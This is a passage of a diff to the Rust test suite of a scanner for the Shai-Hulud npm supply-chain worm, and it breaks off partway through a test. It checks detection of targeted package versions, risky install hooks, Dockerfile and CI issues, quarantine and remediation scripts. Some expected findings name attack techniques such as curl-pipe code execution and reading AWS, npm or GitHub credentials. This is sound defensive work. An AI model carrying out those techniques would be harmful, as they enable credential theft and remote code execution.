@@ -1,13 +1,20 @@
 #[cfg(test)]
 mod tests {
+    use crate::commands;
+    use crate::junit;
+    use crate::metrics;
     use crate::patterns::*;
+    use crate::quarantine;
+    use crate::remediation;
     use crate::scanner::*;
+    use crate::server;
     use std::path::Path;
 
     #[test]
     fn test_malicious_files_detected() {
         let config = ScanConfig {
             include_node_modules: false,
+            ..Default::default()
         };
         let path = Path::new("test_samples/malicious");
         let results = scan_directory_sync(path, &config).expect("Scan should succeed");
@@ -42,6 +49,7 @@ mod tests {
     fn test_shai_hulud_markers_detected() {
         let config = ScanConfig {
             include_node_modules: false,
+            ..Default::default()
         };
         let path = Path::new("test_samples/malicious");
         let results = scan_directory_sync(path, &config).expect("Scan should succeed");
@@ -62,6 +70,7 @@ mod tests {
     fn test_credential_theft_patterns_detected() {
         let config = ScanConfig {
             include_node_modules: false,
+            ..Default::default()
         };
         let path = Path::new("test_samples/malicious");
         let results = scan_directory_sync(path, &config).expect("Scan should succeed");
@@ -85,6 +94,7 @@ mod tests {
     fn test_dangerous_hooks_detected() {
         let config = ScanConfig {
             include_node_modules: false,
+            ..Default::default()
         };
         let path = Path::new("test_samples/malicious");
         let results = scan_directory_sync(path, &config).expect("Scan should succeed");
@@ -106,6 +116,7 @@ mod tests {
     fn test_malicious_workflow_detected() {
         let config = ScanConfig {
             include_node_modules: false,
+            ..Default::default()
         };
         let path = Path::new("test_samples/malicious");
         let results = scan_directory_sync(path, &config).expect("Scan should succeed");
@@ -126,6 +137,7 @@ mod tests {
     fn test_compromised_package_detected() {
         let config = ScanConfig {
             include_node_modules: false,
+            ..Default::default()
         };
         let path = Path::new("test_samples/compromised_packages");
         let results = scan_directory_sync(path, &config).expect("Scan should succeed");
@@ -158,10 +170,105 @@ mod tests {
         println!("  Detected {} compromised packages", compromised_findings.len());
     }
 
+    #[test]
+    fn test_bundled_compromised_package_detected() {
+        let config = ScanConfig::default();
+        let results = scan_directory_sync(Path::new("test_samples/bundled"), &config)
+            .expect("Scan should succeed");
+
+        let bundled: Vec<_> = results.findings.iter()
+            .filter(|f| f.description.starts_with("Bundled targeted package"))
+            .collect();
+
+        // Only the targeted names, reported with the version actually shipped in the bundle
+        assert_eq!(bundled.len(), 2, "Should flag both bundled targeted packages: {:?}", bundled);
+        assert!(bundled[0].description.contains("@art-ws/common @ 2.0.28"));
+        assert!(matches!(bundled[0].severity, Severity::Critical));
+        assert_eq!(bundled[0].line, Some(12));
+
+        // A clean version of a targeted name is only worth a look
+        assert!(bundled[1].description.contains("@ctrl/tinycolor @ 4.0.1"));
+        assert!(matches!(bundled[1].severity, Severity::Medium));
+        assert_eq!(bundled[1].line, Some(13));
+
+        println!("✓ Bundled dependency test passed");
+    }
+
+    #[test]
+    fn test_hook_hardcoded_executable_path() {
+        let config = ScanConfig::default();
+        let results = scan_directory_sync(Path::new("test_samples/hook_paths"), &config)
+            .expect("Scan should succeed");
+
+        let flagged: Vec<_> = results.findings.iter()
+            .filter(|f| f.description.starts_with("Executable invoked by hardcoded path"))
+            .collect();
+
+        // preinstall and install; `node scripts/build.js` and non-lifecycle scripts are fine
+        assert_eq!(flagged.len(), 2, "Unexpected findings: {:?}", flagged);
+        assert!(flagged.iter().all(|f| matches!(f.severity, Severity::High)));
+        assert!(flagged.iter().any(|f| f.description.ends_with("'preinstall' hook")));
+        assert!(flagged.iter().any(|f| f.description.ends_with("'install' hook")));
+        assert!(!flagged.iter().any(|f| f.description.ends_with("'postinstall' hook")));
+
+        println!("✓ Hardcoded executable path hook test passed");
+    }
+
+    #[test]
+    fn test_compromised_packages_aggregated() {
+        let config = ScanConfig {
+            relative_paths: true,
+            ..Default::default()
+        };
+        let results = scan_directory_sync(Path::new("test_samples/aggregate"), &config)
+            .expect("Scan should succeed");
+
+        let packages: Vec<_> = results.findings.iter()
+            .filter(|f| matches!(f.finding_type, FindingType::CompromisedPackage))
+            .collect();
+
+        // package.json, package-lock.json and yarn.lock collapse into one finding
+        assert_eq!(packages.len(), 1, "Expected one merged finding: {:?}", packages);
+        let merged = packages[0];
+        assert_eq!(merged.package.as_deref(), Some("@ctrl/ngx-csv@6.0.2"));
+        assert!(merged.description.ends_with("(found in 3 places)"));
+        let mut paths: Vec<_> = merged.locations.iter().map(|l| l.path.as_str()).collect();
+        paths.sort();
+        assert_eq!(paths, vec!["package-lock.json", "package.json", "yarn.lock"]);
+        assert!(merged.locations.iter().any(|l| l.path == "package.json" && l.line == Some(5)));
+
+        println!("✓ Compromised package aggregation test passed");
+    }
+
+    #[test]
+    fn test_hook_node_modules_binaries() {
+        let config = ScanConfig::default();
+        let results = scan_directory_sync(Path::new("test_samples/hook_bin"), &config)
+            .expect("Scan should succeed");
+
+        let mut hooks: Vec<_> = results.findings.iter()
+            .filter(|f| matches!(f.finding_type, FindingType::DangerousHook))
+            .map(|f| (f.description.as_str(), f.severity))
+            .collect();
+        hooks.sort_by_key(|(d, _)| *d);
+
+        // `npm run` / PATH-resolved tools and non-lifecycle scripts are left alone
+        assert_eq!(
+            hooks,
+            vec![
+                ("Runs a binary from node_modules/.bin directly in 'preinstall' hook", Severity::High),
+                ("Runs a file inside ./node_modules in 'install' hook", Severity::Medium),
+            ]
+        );
+
+        println!("✓ node_modules binary hook test passed");
+    }
+
     #[test]
     fn test_clean_project_no_compromised_packages() {
         let config = ScanConfig {
             include_node_modules: false,
+            ..Default::default()
         };
         let path = Path::new("test_samples/clean_project");
         let results = scan_directory_sync(path, &config).expect("Scan should succeed");
@@ -182,6 +289,7 @@ mod tests {
     fn test_rce_patterns_detected() {
         let config = ScanConfig {
             include_node_modules: false,
+            ..Default::default()
         };
         let path = Path::new("test_samples/malicious");
         let results = scan_directory_sync(path, &config).expect("Scan should succeed");
@@ -203,6 +311,7 @@ mod tests {
     fn test_clean_files_no_critical() {
         let config = ScanConfig {
             include_node_modules: false,
+            ..Default::default()
         };
         let path = Path::new("test_samples/clean");
         let results = scan_directory_sync(path, &config).expect("Scan should succeed");
@@ -229,6 +338,7 @@ mod tests {
     fn test_edge_cases_no_critical() {
         let config = ScanConfig {
             include_node_modules: false,
+            ..Default::default()
         };
         let path = Path::new("test_samples/edge_cases");
         let results = scan_directory_sync(path, &config).expect("Scan should succeed");
@@ -244,290 +354,2993 @@ mod tests {
     }
 
     #[test]
-    fn test_severity_levels() {
-        assert_eq!(Severity::Critical.as_str(), "CRITICAL");
-        assert_eq!(Severity::High.as_str(), "HIGH");
-        assert_eq!(Severity::Medium.as_str(), "MEDIUM");
-        assert_eq!(Severity::Low.as_str(), "LOW");
+    fn test_workflow_token_references_downgraded() {
+        let config = ScanConfig::default();
+        let results = scan_directory_sync(Path::new("test_samples/edge_cases"), &config)
+            .expect("Scan should succeed");
+
+        let token_refs = |file: &str| {
+            results
+                .findings
+                .iter()
+                .filter(|f| f.path.contains(file) && f.description == "GitHub token environment variable")
+                .map(|f| f.severity)
+                .collect::<Vec<_>>()
+        };
 
-        println!("✓ Severity levels test passed");
+        let in_workflow = token_refs("publish.yml");
+        assert!(!in_workflow.is_empty());
+        assert!(in_workflow.iter().all(|s| *s == Severity::Info));
+        assert!(results
+            .findings
+            .iter()
+            .filter(|f| f.path.contains("publish.yml"))
+            .all(|f| !matches!(f.severity, Severity::Critical | Severity::High)));
+
+        // Outside workflows the reference keeps its Medium severity
+        assert_eq!(token_refs("suspicious_but_legit.js"), vec![Severity::Medium]);
+
+        println!("✓ Workflow token downgrade test passed");
     }
 
     #[test]
-    fn test_pattern_compilation() {
-        // Ensure all patterns compile without panic
-        let _ = &*SUSPICIOUS_PATTERNS;
-        let _ = &*HOOK_PATTERNS;
+    fn test_npmrc_mentions_not_flagged() {
+        let config = ScanConfig::default();
+        let results = scan_directory_sync(Path::new("test_samples/edge_cases"), &config)
+            .expect("Scan should succeed");
+
+        let npmrc_lines = |file: &str| {
+            results
+                .findings
+                .iter()
+                .filter(|f| f.path.contains(file) && f.description == "NPM config file access")
+                .filter_map(|f| f.line)
+                .collect::<Vec<_>>()
+        };
 
-        println!("✓ Pattern compilation test passed");
+        assert!(npmrc_lines("npm_setup_notes.js").is_empty(), "Prose mentions must not be flagged");
+        // The comment on line 9 is ignored, the '~/.npmrc' path on line 10 is not
+        assert_eq!(npmrc_lines("suspicious_but_legit.js"), vec![10]);
+
+        let malicious = scan_directory_sync(Path::new("test_samples/malicious"), &config).unwrap();
+        assert!(malicious
+            .findings
+            .iter()
+            .any(|f| f.path.contains("evil_script.sh") && f.description == "NPM config file access"));
+
+        println!("✓ .npmrc mention test passed");
     }
 
     #[test]
-    fn test_scan_results_summary() {
+    fn test_prometheus_metrics() {
         let config = ScanConfig {
-            include_node_modules: false,
+            relative_paths: true,
+            ..Default::default()
         };
-        let path = Path::new("test_samples/malicious");
-        let results = scan_directory_sync(path, &config).expect("Scan should succeed");
-
-        // Summary should be consistent with findings
-        let critical_count = results.findings.iter()
-            .filter(|f| f.severity == Severity::Critical)
-            .count();
-        let high_count = results.findings.iter()
-            .filter(|f| f.severity == Severity::High)
-            .count();
+        let results = scan_directory_sync(Path::new("test_samples/malicious"), &config)
+            .expect("Scan should succeed");
+        let text = metrics::render(&results);
 
-        assert_eq!(results.summary.critical, critical_count);
-        assert_eq!(results.summary.high, high_count);
-        assert_eq!(results.summary.total, results.findings.len());
+        assert!(text.contains("# TYPE shai_hulud_findings gauge"));
+        assert!(text.contains(&format!(
+            "shai_hulud_findings{{path=\"test_samples/malicious\",severity=\"critical\"}} {}",
+            results.summary.critical
+        )));
+        assert!(text.contains(&format!(
+            "shai_hulud_scanned_files{{path=\"test_samples/malicious\"}} {}",
+            results.scanned_files
+        )));
+        // Every sample line is `name{labels} value`
+        for line in text.lines().filter(|l| !l.starts_with('#')) {
+            let (_, value) = line.rsplit_once(' ').unwrap();
+            assert!(value.parse::<f64>().is_ok(), "Bad sample line: {line}");
+        }
 
-        println!("✓ Summary consistency test passed");
+        println!("✓ Prometheus metrics test passed");
     }
 
-    // ========================================
-    // UI Display Tests
-    // ========================================
-
     #[test]
-    fn test_severity_colors() {
-        use ratatui::style::Color;
+    fn test_serve_over_socket() {
+        use std::io::{BufRead, BufReader, Write};
+        use std::os::unix::net::UnixStream;
 
-        // Test that each severity has the correct color
-        assert_eq!(Severity::Critical.color(), Color::Red, "Critical should be Red");
-        assert_eq!(Severity::High.color(), Color::LightRed, "High should be LightRed");
-        assert_eq!(Severity::Medium.color(), Color::Yellow, "Medium should be Yellow");
-        assert_eq!(Severity::Low.color(), Color::Blue, "Low should be Blue");
+        let socket = std::env::temp_dir().join(format!("shk-test-{}.sock", std::process::id()));
+        let listener = server::bind(&socket).expect("Socket should bind");
+        std::thread::spawn(move || server::serve(listener, ScanConfig::default()));
 
-        println!("✓ Severity colors test passed");
-        println!("  Critical: Red");
-        println!("  High: LightRed");
-        println!("  Medium: Yellow");
-        println!("  Low: Blue");
+        // Only the owner may connect
+        use std::os::unix::fs::PermissionsExt;
+        assert_eq!(std::fs::metadata(&socket).unwrap().permissions().mode() & 0o777, 0o600);
+
+        // Idle connections don't take scan workers away from active ones
+        let idle: Vec<_> = (0..rayon::current_num_threads() + 1)
+            .map(|_| UnixStream::connect(&socket).expect("Should connect"))
+            .collect();
+
+        let mut stream = UnixStream::connect(&socket).expect("Should connect");
+        let mut reader = BufReader::new(stream.try_clone().unwrap());
+        let mut ask = |request: &str| {
+            writeln!(stream, "{request}").unwrap();
+            let mut line = String::new();
+            reader.read_line(&mut line).unwrap();
+            serde_json::from_str::<serde_json::Value>(&line).unwrap()
+        };
+
+        let response = ask(r#"{"path": "test_samples/malicious", "relative_paths": true}"#);
+        assert!(response["summary"]["critical"].as_u64().unwrap() > 0);
+        assert!(!response["findings"][0]["path"].as_str().unwrap().starts_with('/'));
+
+        // The connection stays usable after a bad request
+        let response = ask(r#"{"nope": 1}"#);
+        assert!(response["error"].as_str().unwrap().contains("Invalid request"));
+        let response = ask(r#"{"path": "test_samples/clean"}"#);
+        assert_eq!(response["summary"]["critical"], 0);
+        drop(idle);
+
+        let _ = std::fs::remove_file(&socket);
+        println!("✓ Serve over socket test passed");
     }
 
     #[test]
-    fn test_severity_display_strings() {
-        // Test display strings for UI
-        assert_eq!(Severity::Critical.as_str(), "CRITICAL");
-        assert_eq!(Severity::High.as_str(), "HIGH");
-        assert_eq!(Severity::Medium.as_str(), "MEDIUM");
-        assert_eq!(Severity::Low.as_str(), "LOW");
-
-        // Test that they are all uppercase (for consistent UI display)
-        for severity in [Severity::Critical, Severity::High, Severity::Medium, Severity::Low] {
-            let s = severity.as_str();
-            assert_eq!(s, s.to_uppercase(), "{} should be uppercase", s);
+    fn test_package_json_findings_have_lines() {
+        let config = ScanConfig::default();
+        let results = scan_directory_sync(Path::new("test_samples/compromised_packages"), &config)
+            .expect("Scan should succeed");
+        let line_of = |needle: &str| {
+            results
+                .findings
+                .iter()
+                .find(|f| f.description.contains(needle))
+                .and_then(|f| f.line)
+        };
+        assert_eq!(line_of("ngx-bootstrap"), Some(7));
+        assert_eq!(line_of("@ctrl/ngx-csv"), Some(11));
+
+        let results = scan_directory_sync(Path::new("test_samples/malicious"), &config)
+            .expect("Scan should succeed");
+        let hooks: Vec<_> = results
+            .findings
+            .iter()
+            .filter(|f| matches!(f.finding_type, FindingType::DangerousHook))
+            .collect();
+        assert!(!hooks.is_empty());
+        for hook in hooks {
+            let expected = if hook.description.contains("'preinstall'") {
+                6
+            } else if hook.description.contains("'postinstall'") {
+                7
+            } else {
+                8
+            };
+            assert_eq!(hook.line, Some(expected), "{}", hook.description);
         }
 
-        println!("✓ Severity display strings test passed");
+        println!("✓ Package finding line numbers test passed");
     }
 
     #[test]
-    fn test_finding_type_variants() {
-        // Test that all finding types exist and can be matched
-        let malicious_file = FindingType::MaliciousFile;
-        let malicious_hash = FindingType::MaliciousHash;
-        let suspicious_pattern = FindingType::SuspiciousPattern;
-        let dangerous_hook = FindingType::DangerousHook;
-        let compromised_package = FindingType::CompromisedPackage;
+    fn test_yarn_lockfile_formats() {
+        let config = ScanConfig::default();
+        let infected = |dir: &str| {
+            let results = scan_directory_sync(Path::new(dir), &config).expect("Scan should succeed");
+            let mut found: Vec<_> = results
+                .findings
+                .into_iter()
+                .filter(|f| f.severity == Severity::Critical && f.path.ends_with("yarn.lock"))
+                .map(|f| (f.description, f.line))
+                .collect();
+            found.sort();
+            found
+        };
 
-        // Each type should have a different debug representation
-        assert_ne!(format!("{:?}", malicious_file), format!("{:?}", malicious_hash));
-        assert_ne!(format!("{:?}", suspicious_pattern), format!("{:?}", dangerous_hook));
-        assert_ne!(format!("{:?}", compromised_package), format!("{:?}", malicious_file));
+        assert_eq!(
+            infected("test_samples/yarn_classic"),
+            vec![("INFECTED in lockfile: ngx-bootstrap @ 20.0.4".to_string(), None)]
+        );
+        assert_eq!(
+            infected("test_samples/yarn_berry"),
+            vec![
+                ("INFECTED in lockfile: @ctrl/ngx-csv @ 6.0.2".to_string(), Some(10)),
+                ("INFECTED in lockfile: ngx-bootstrap @ 20.0.4".to_string(), Some(24)),
+            ]
+        );
 
-        println!("✓ Finding type variants test passed");
-        println!("  MaliciousFile: {:?}", malicious_file);
-        println!("  MaliciousHash: {:?}", malicious_hash);
-        println!("  SuspiciousPattern: {:?}", suspicious_pattern);
-        println!("  DangerousHook: {:?}", dangerous_hook);
-        println!("  CompromisedPackage: {:?}", compromised_package);
+        println!("✓ Yarn lockfile formats test passed");
     }
 
     #[test]
-    fn test_findings_have_display_data() {
-        let config = ScanConfig {
-            include_node_modules: false,
-        };
-        let path = Path::new("test_samples/malicious");
-        let results = scan_directory_sync(path, &config).expect("Scan should succeed");
+    fn test_lockfile_targeted_safe_versions() {
+        let config = ScanConfig::default();
+        let results = scan_directory_sync(Path::new("test_samples/lockfile_safe_versions"), &config)
+            .expect("Scan should succeed");
+
+        let mut advisories: Vec<_> = results
+            .findings
+            .iter()
+            .filter(|f| matches!(f.finding_type, FindingType::CompromisedPackage))
+            .map(|f| {
+                assert!(matches!(f.severity, Severity::Medium), "Unexpected severity: {:?}", f);
+                (f.description.as_str(), f.line)
+            })
+            .collect();
+        advisories.sort();
 
-        for finding in &results.findings {
-            // Every finding must have a path
-            assert!(!finding.path.is_empty(), "Finding path should not be empty");
-            
-            // Every finding must have a description
-            assert!(!finding.description.is_empty(), "Finding description should not be empty");
-            
-            // Severity should have valid display properties
-            let _ = finding.severity.as_str();
-            let _ = finding.severity.color();
-        }
+        // One advisory per targeted package, in every lockfile format
+        assert_eq!(
+            advisories,
+            vec![
+                ("Package @art-ws/common was targeted (locked version 2.0.27 may be safe)", Some(11)),
+                ("Package @ctrl/ngx-csv was targeted (locked version 6.0.3 may be safe)", Some(5)),
+                ("Package ngx-bootstrap was targeted (locked version 20.0.6 may be safe)", Some(14)),
+            ]
+        );
 
-        println!("✓ Findings display data test passed");
-        println!("  All {} findings have valid display data", results.findings.len());
+        println!("✓ Lockfile targeted package advisory test passed");
     }
 
     #[test]
-    fn test_all_severity_levels_in_results() {
+    fn test_deps_only_mode() {
         let config = ScanConfig {
-            include_node_modules: false,
+            deps_only: true,
+            ..Default::default()
         };
-        let path = Path::new("test_samples/malicious");
-        let results = scan_directory_sync(path, &config).expect("Scan should succeed");
+        let results = scan_directory_sync(Path::new("test_samples/malicious"), &config)
+            .expect("Scan should succeed");
+
+        // Only package.json is read: its hooks are still reported, the payloads are not
+        assert_eq!(results.scanned_files, 1);
+        assert!(!results.findings.is_empty());
+        assert!(results
+            .findings
+            .iter()
+            .all(|f| f.path.ends_with("package.json")
+                && matches!(f.finding_type, FindingType::DangerousHook | FindingType::CompromisedPackage)));
+        assert!(results.config.deps_only);
+
+        let results = scan_directory_sync(Path::new("test_samples/lockfile_safe_versions"), &config)
+            .expect("Scan should succeed");
+        assert_eq!(results.summary.medium, 3, "Lockfiles should still be checked");
+
+        println!("✓ Deps-only mode test passed");
+    }
 
-        // Collect unique severities found
-        let mut found_critical = false;
-        let mut found_high = false;
-        let mut found_medium = false;
+    #[test]
+    fn test_no_hash_mode() {
+        let results = scan_directory_sync(Path::new("test_samples/malicious"), &ScanConfig::default())
+            .expect("Scan should succeed");
+        assert_eq!(results.stats.hashed_files, results.scanned_files);
 
-        for finding in &results.findings {
-            match finding.severity {
-                Severity::Critical => found_critical = true,
-                Severity::High => found_high = true,
-                Severity::Medium => found_medium = true,
-                Severity::Low => {}
-            }
-        }
+        let config = ScanConfig {
+            no_hash: true,
+            ..Default::default()
+        };
+        let results = scan_directory_sync(Path::new("test_samples/malicious"), &config)
+            .expect("Scan should succeed");
 
-        // Malicious samples should trigger multiple severity levels
-        assert!(found_critical, "Should have Critical severity findings");
-        assert!(found_high, "Should have High severity findings");
+        // Nothing hashed, but name and content checks still run
+        assert_eq!(results.stats.hashed_files, 0);
+        assert_eq!(results.stats.hashing, std::time::Duration::ZERO);
+        assert!(!results.findings.iter().any(|f| matches!(f.finding_type, FindingType::MaliciousHash)));
+        assert!(results.findings.iter().any(|f| matches!(f.finding_type, FindingType::MaliciousFile)));
 
-        println!("✓ All severity levels in results test passed");
-        println!("  Critical: {}", if found_critical { "✓" } else { "✗" });
-        println!("  High: {}", if found_high { "✓" } else { "✗" });
-        println!("  Medium: {}", if found_medium { "✓" } else { "✗" });
+        println!("✓ No-hash mode test passed");
     }
 
     #[test]
-    fn test_summary_display_values() {
+    fn test_content_only_mode() {
         let config = ScanConfig {
-            include_node_modules: false,
+            content_only: true,
+            ..Default::default()
         };
-        let path = Path::new("test_samples/malicious");
-        let results = scan_directory_sync(path, &config).expect("Scan should succeed");
+        let results = scan_directory_sync(Path::new("test_samples/malicious"), &config)
+            .expect("Scan should succeed");
 
-        // Summary should have displayable values
-        println!("✓ Summary display values test passed");
-        println!("  Scanned files: {}", results.scanned_files);
-        println!("  Scan path: {}", results.scan_path);
-        println!("  Total findings: {}", results.summary.total);
-        println!("  Critical: {}", results.summary.critical);
-        println!("  High: {}", results.summary.high);
-        println!("  Medium: {}", results.summary.medium);
-        println!("  Low: {}", results.summary.low);
+        // Payload files are still caught; the package.json hooks are not looked at
+        assert!(results.findings.iter().any(|f| matches!(f.finding_type, FindingType::MaliciousFile)));
+        assert!(!results.findings.iter().any(|f| matches!(f.finding_type, FindingType::DangerousHook)));
 
-        // Validate summary math
-        let calculated_total = results.summary.critical 
-            + results.summary.high 
-            + results.summary.medium 
-            + results.summary.low;
+        let results = scan_directory_sync(Path::new("test_samples/compromised_packages"), &config)
+            .expect("Scan should succeed");
+        assert!(!results.findings.iter().any(|f| matches!(f.finding_type, FindingType::CompromisedPackage)));
+
+        println!("✓ Content-only mode test passed");
+    }
+
+    #[test]
+    fn test_import_map_pins() {
+        let config = ScanConfig::default();
+        let results = scan_directory_sync(Path::new("test_samples/import_map"), &config)
+            .expect("Scan should succeed");
+
+        let mut infected: Vec<_> = results
+            .findings
+            .iter()
+            .filter(|f| matches!(f.finding_type, FindingType::CompromisedPackage))
+            .map(|f| (f.description.as_str(), f.line))
+            .collect();
+        infected.sort();
         assert_eq!(
-            results.summary.total, calculated_total,
-            "Total should equal sum of all severities"
+            infected,
+            vec![
+                ("INFECTED import: @ctrl/ngx-csv @ 6.0.2", Some(7)),
+                ("INFECTED import: ngx-bootstrap @ 20.0.4", Some(6)),
+            ]
         );
+
+        println!("✓ Import map test passed");
     }
 
     #[test]
-    fn test_finding_context_for_display() {
-        let config = ScanConfig {
-            include_node_modules: false,
-        };
-        let path = Path::new("test_samples/malicious");
-        let results = scan_directory_sync(path, &config).expect("Scan should succeed");
+    fn test_summary_only_report() {
+        let config = ScanConfig::default();
+        let results = scan_directory_sync(Path::new("test_samples/malicious"), &config)
+            .expect("Scan should succeed");
+        let json = serde_json::to_value(results.summary_report()).unwrap();
 
-        let mut findings_with_line = 0;
-        let mut findings_with_context = 0;
+        assert!(json.get("findings").is_none());
+        assert_eq!(json["scanned_files"], results.scanned_files);
+        assert_eq!(json["summary"]["critical"], results.summary.critical);
+        assert_eq!(json["risk_score"], 100);
 
-        for finding in &results.findings {
-            if finding.line.is_some() {
-                findings_with_line += 1;
-            }
-            if finding.context.is_some() {
-                findings_with_context += 1;
-                // Context should not be excessively long for display
-                if let Some(ctx) = &finding.context {
-                    assert!(ctx.len() < 1000, "Context should be reasonably sized for display");
-                }
-            }
-        }
+        let clean = scan_directory_sync(Path::new("test_samples/clean"), &config).unwrap();
+        assert_eq!(clean.summary_report().risk_score, 0);
 
-        println!("✓ Finding context for display test passed");
-        println!("  Findings with line numbers: {}", findings_with_line);
-        println!("  Findings with context: {}", findings_with_context);
+        println!("✓ Summary-only report test passed");
     }
 
     #[test]
-    fn test_ui_icon_mapping() {
-        // Simulate UI icon selection logic
-        fn get_icon(finding_type: &FindingType) -> &'static str {
-            match finding_type {
-                FindingType::MaliciousFile => "📛",
-                FindingType::MaliciousHash => "🔐",
-                FindingType::SuspiciousPattern => "🔍",
-                FindingType::DangerousHook => "⚡",
-                FindingType::CompromisedPackage => "📦",
-            }
+    fn test_findings_carry_remediation() {
+        let config = ScanConfig::default();
+        let results = scan_directory_sync(Path::new("test_samples/compromised_packages"), &config)
+            .expect("Scan should succeed");
+        let infected = results
+            .findings
+            .iter()
+            .find(|f| f.severity == Severity::Critical)
+            .expect("Should find an infected package");
+        assert_eq!(infected.remediation.as_deref(), Some(REMEDIATE_PACKAGE));
+
+        let results = scan_directory_sync(Path::new("test_samples/malicious"), &config).unwrap();
+        let json = serde_json::to_value(&results).unwrap();
+        assert!(json["findings"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .any(|f| f["remediation"] == REMEDIATE_HOOK));
+
+        println!("✓ Remediation test passed");
+    }
+
+    #[test]
+    fn test_remediation_script() {
+        let config = ScanConfig {
+            relative_paths: true,
+            ..Default::default()
+        };
+        let results = scan_directory_sync(Path::new("test_samples/malicious"), &config)
+            .expect("Scan should succeed");
+        let script = remediation::script(&results);
+
+        assert!(script.starts_with("#!/bin/sh"));
+        assert!(script.contains("# mv -- 'setup_bun.js' .shk-quarantine/"));
+        assert!(script.contains("rotate npm, GitHub and cloud credentials"));
+        // Nothing destructive runs unless uncommented
+        for line in script.lines().filter(|l| !l.starts_with('#') && !l.is_empty()) {
+            assert!(
+                line == "set -eu" || line.starts_with("cd -- ") || line.starts_with("echo "),
+                "Uncommented command: {line}"
+            );
         }
 
-        assert_eq!(get_icon(&FindingType::MaliciousFile), "📛");
-        assert_eq!(get_icon(&FindingType::MaliciousHash), "🔐");
-        assert_eq!(get_icon(&FindingType::SuspiciousPattern), "🔍");
-        assert_eq!(get_icon(&FindingType::DangerousHook), "⚡");
-        assert_eq!(get_icon(&FindingType::CompromisedPackage), "📦");
+        let results = scan_directory_sync(Path::new("test_samples/compromised_packages"), &config)
+            .unwrap();
+        let script = remediation::script(&results);
+        assert!(script.contains("# npm install --save-exact 'ngx-bootstrap@<safe-version>'"));
 
-        println!("✓ UI icon mapping test passed");
-        println!("  MaliciousFile: 📛");
-        println!("  MaliciousHash: 🔐");
-        println!("  SuspiciousPattern: 🔍");
-        println!("  DangerousHook: ⚡");
-        println!("  CompromisedPackage: 📦");
+        println!("✓ Remediation script test passed");
     }
 
     #[test]
-    fn test_result_status_icon() {
-        // Simulate UI status icon logic
-        fn get_status_icon(critical: usize, high: usize, total: usize) -> &'static str {
-            if critical > 0 || high > 0 {
-                "🚨"
-            } else if total > 0 {
-                "⚠️"
-            } else {
-                "✅"
-            }
-        }
+    fn test_quarantine_moves_malicious_files() {
+        let root = std::env::temp_dir().join(format!("shk-quarantine-{}", std::process::id()));
+        let _ = std::fs::remove_dir_all(&root);
+        let project = root.join("project");
+        std::fs::create_dir_all(project.join("lib")).unwrap();
+        std::fs::copy("test_samples/malicious/setup_bun.js", project.join("lib/setup_bun.js")).unwrap();
+        std::fs::copy("test_samples/clean/server.js", project.join("server.js")).unwrap();
 
-        assert_eq!(get_status_icon(1, 0, 1), "🚨", "Critical should show alert");
-        assert_eq!(get_status_icon(0, 1, 1), "🚨", "High should show alert");
-        assert_eq!(get_status_icon(0, 0, 1), "⚠️", "Medium/Low should show warning");
-        assert_eq!(get_status_icon(0, 0, 0), "✅", "No findings should show success");
+        let config = ScanConfig {
+            relative_paths: true,
+            ..Default::default()
+        };
+        let results = scan_directory_sync(&project, &config).expect("Scan should succeed");
+        let files = quarantine::candidates(&results, &project);
+        assert_eq!(files, vec![project.join("lib/setup_bun.js")]);
+
+        let dir = root.join("quarantine");
+        let moved = quarantine::quarantine(&files, &project, &dir).expect("Quarantine should succeed");
+        assert_eq!(moved.len(), 1);
+        assert!(!project.join("lib/setup_bun.js").exists());
+        assert!(dir.join("lib/setup_bun.js").exists());
+        assert!(project.join("server.js").exists(), "Clean files must stay put");
+
+        let manifest: Vec<quarantine::QuarantineEntry> = serde_json::from_str(
+            &std::fs::read_to_string(dir.join(quarantine::MANIFEST_NAME)).unwrap(),
+        )
+        .unwrap();
+        assert_eq!(manifest[0].quarantined, dir.join("lib/setup_bun.js").display().to_string());
+
+        // A move that fails part-way still records the files already moved
+        std::fs::copy("test_samples/malicious/setup_bun.js", project.join("setup_bun.js")).unwrap();
+        std::fs::copy("test_samples/malicious/setup_bun.js", project.join("lib/setup_bun.js")).unwrap();
+        let files = vec![project.join("setup_bun.js"), project.join("lib/setup_bun.js")];
+        assert!(quarantine::quarantine(&files, &project, &dir).is_err(), "lib/setup_bun.js is already quarantined");
+        let manifest: Vec<quarantine::QuarantineEntry> = serde_json::from_str(
+            &std::fs::read_to_string(dir.join(quarantine::MANIFEST_NAME)).unwrap(),
+        )
+        .unwrap();
+        assert_eq!(manifest.len(), 2);
+        assert_eq!(manifest[1].quarantined, dir.join("setup_bun.js").display().to_string());
+
+        // Quarantining into the scanned tree would bring the payloads back next scan
+        let inside = project.join(".quarantine");
+        let files = vec![project.join("lib/setup_bun.js")];
+        assert!(quarantine::quarantine(&files, &project, &inside).is_err());
+        assert!(project.join("lib/setup_bun.js").exists() && !inside.exists());
+
+        let _ = std::fs::remove_dir_all(&root);
+        println!("✓ Quarantine test passed");
+    }
 
-        println!("✓ Result status icon test passed");
-        println!("  Critical/High: 🚨");
-        println!("  Medium/Low only: ⚠️");
-        println!("  Clean: ✅");
+    #[test]
+    fn test_dynamic_require_detected() {
+        let config = ScanConfig::default();
+        let results = scan_directory_sync(Path::new("test_samples/dynamic_require"), &config)
+            .expect("Scan should succeed");
+        let lines = |file: &str| {
+            let mut lines: Vec<_> = results
+                .findings
+                .iter()
+                .filter(|f| f.path.ends_with(file) && f.description.starts_with("Dynamic require"))
+                .inspect(|f| assert_eq!(f.severity, Severity::Medium))
+                .filter_map(|f| f.line)
+                .collect();
+            lines.sort();
+            lines
+        };
+
+        assert_eq!(lines("loader.js"), vec![10, 11, 12]);
+        assert!(lines("plugins.js").is_empty(), "Literal requires must not be flagged");
+
+        println!("✓ Dynamic require test passed");
     }
 
     #[test]
-    fn test_json_serialization_for_display() {
+    fn test_dockerfile_checks() {
+        let config = ScanConfig::default();
+        let results = scan_directory_sync(Path::new("test_samples/docker"), &config)
+            .expect("Scan should succeed");
+        let mut found: Vec<_> = results
+            .findings
+            .iter()
+            .filter(|f| f.description.contains("Dockerfile"))
+            .map(|f| (f.line.unwrap(), f.description.as_str()))
+            .collect();
+        found.sort();
+
+        assert_eq!(
+            found,
+            vec![
+                (4, "Hardcoded token in Dockerfile ARG"),
+                (12, "Remote code execution via curl pipe in Dockerfile RUN"),
+                (16, "AWS credentials file access in Dockerfile RUN"),
+            ]
+        );
+
+        println!("✓ Dockerfile test passed");
+    }
+
+    #[test]
+    fn test_other_ci_configs() {
+        let config = ScanConfig::default();
+        let results = scan_directory_sync(Path::new("test_samples/ci_configs"), &config)
+            .expect("Scan should succeed");
